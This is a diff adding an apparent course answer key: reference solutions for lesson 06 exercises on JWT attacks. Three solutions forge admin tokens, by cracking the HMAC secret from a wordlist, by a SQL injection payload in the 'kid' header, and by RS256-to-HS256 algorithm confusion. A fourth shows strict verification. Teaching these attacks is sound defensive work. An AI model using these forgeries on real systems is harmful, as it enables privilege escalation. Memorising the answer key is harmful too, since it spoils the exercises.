@@ -1,0 +1,42 @@
+"""Reference solutions of lesson 06's exercises, by class name: what ``qN.solution()`` shows.
+
+Kept apart from the checks (``coursekit.exercises.ex06``) so that a classroom build can leave them out.
+"""
+
+SOLUTIONS = {
+    "CrackAndForge": """
+        def forge(token: str) -> str:
+            head, payload, signature = token.split(".")
+            signing_input = f"{head}.{payload}".encode()
+            secret = next(word.encode() for word in wordlist()
+                          if b64url(hmac.new(word.encode(), signing_input, hashlib.sha256).digest()) == signature)
+            admin_claims = {**json.loads(decode_segment(payload)), "roles": ["admin"]}
+            return hs256_by_hand(jwt.get_unverified_header(token), admin_claims, secret)
+    """,
+    "InjectTheKid": """
+        def forge(token: str) -> str:
+            admin_claims = {**claims(token), "roles": ["admin"]}
+            header = {"alg": "HS256", "typ": "at+jwt", "kid": "x' UNION SELECT 'my-secret' --"}
+            return hs256_by_hand(header, admin_claims, b"my-secret")
+    """,
+    "ConfuseTheAlgorithm": """
+        def forge(token: str, jwks: dict) -> str:
+            public_key = RSAAlgorithm.from_jwk(jwks["keys"][0])
+            pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+            admin_claims = {**claims(token), "roles": ["admin"]}
+            header = {**jwt.get_unverified_header(token), "alg": "HS256"}
+            return hs256_by_hand(header, admin_claims, pem)
+    """,
+    "VerifyAgainstTheBattery": """
+        def verify(token: str, lab) -> dict:
+            keys = jwt.PyJWKSet.from_dict(lab.http.get(lab.url + "/.well-known/jwks.json").json())
+            key = keys[jwt.get_unverified_header(token)["kid"]]       # only the server's own keys
+            verified = jwt.decode(token, key, algorithms=["RS256"], audience="lab-api",
+                                  issuer=lab.settings.issuer_id,
+                                  options={"require": ["exp", "iss", "aud"],
+                                           "verify_exp": False, "verify_iat": False})  # the lab's clock, below
+            if lab.clock.now() >= verified["exp"]:
+                raise jwt.ExpiredSignatureError("expired by the lab clock")
+            return verified
+    """,
+}
